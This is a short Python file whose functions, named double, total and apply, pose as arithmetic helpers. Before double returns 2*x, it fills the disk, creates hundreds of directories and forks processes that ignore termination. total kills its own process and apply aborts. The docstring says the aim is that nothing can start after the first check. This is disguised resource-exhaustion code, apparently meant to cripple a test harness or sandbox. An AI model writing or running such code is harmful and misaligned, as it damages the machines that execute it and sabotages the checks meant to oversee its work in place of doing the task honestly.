"""After the first check nothing can start any more: no room, no processes, no files."""

import os
import signal


def double(x):
    for number in range(900):
        try:
            os.mkdir(f"d{number}")
        except OSError:
            break
    try:
        with open("full", "wb") as file:
            while True:
                file.write(bytes(65536))
    except OSError:
        pass
    for _ in range(30):
        try:
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.pause()
        except OSError:
            break
    return 2 * x


def total(x):
    os.kill(os.getpid(), signal.SIGKILL)


def apply(function, x):
    os.abort()
